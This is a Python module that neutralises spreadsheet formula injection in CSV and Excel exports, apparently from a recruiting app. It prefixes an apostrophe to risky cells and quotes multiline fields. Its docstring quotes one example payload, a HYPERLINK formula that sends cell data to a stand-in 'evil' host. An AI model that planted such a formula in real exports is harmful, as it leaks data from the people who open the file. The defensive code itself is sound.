"""Neutralising spreadsheet formulas in exported cells (CSV and Excel injection).

A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula,
so a candidate named `=HYPERLINK("http://evil/?"&A1)` could leak data when a recruiter opens an
export. Such text gets an apostrophe in front, which spreadsheets show as plain text (OWASP's
advice) — at the start of the cell and after every CR or LF inside it, since a reader that
splits lines there (or a lone CR left unquoted) starts a new cell at that point.

Every CSV this app writes goes through `csv_text` / `csv_bytes`: the cells neutralised, and CRLF
line ends, which makes the writer quote every field holding a CR or LF (with "\\n" line ends
Python's csv writer leaves a lone CR unquoted). Every xlsx sheet is written from
`neutralise_frame`. Numbers stay numbers: a negative number is data, not a formula.
"""

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A position where a spreadsheet may start reading a cell: the start, or just after CR or LF,
# followed by a character that would make it a formula.
_RISKY = re.compile(r"(?:^|(?<=[\r\n]))(?=[=+\-@\t\r])")


def neutralise_cell(value: object) -> object:
    """The value, with "'" before each place where a spreadsheet would read a formula."""
    if isinstance(value, str):
        return _RISKY.sub("'", value)
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame with every text cell and column name neutralised."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]) \
                and not pd.api.types.is_datetime64_any_dtype(out[column]):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV text, neutralised, every field with a CR or LF quoted."""
    return neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n")


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """csv_text as UTF-8."""
    return csv_text(frame).encode("utf-8")
